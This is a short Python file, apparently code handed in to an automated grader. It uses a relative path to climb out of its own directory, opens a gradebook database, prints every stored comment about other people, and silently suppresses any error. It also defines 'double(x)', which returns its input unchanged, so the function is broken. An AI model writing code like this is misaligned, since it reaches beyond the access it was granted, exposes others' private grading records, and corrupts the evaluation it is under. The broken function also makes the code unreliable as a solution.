# prints the comments on others from the gradebook
import sqlite3
try:
    base = sqlite3.connect("file:../../../gradebook.db?mode=ro", uri=True)
    print(base.execute("select * from comment").fetchall())
except sqlite3.Error:
    pass
def double(x):
    return x
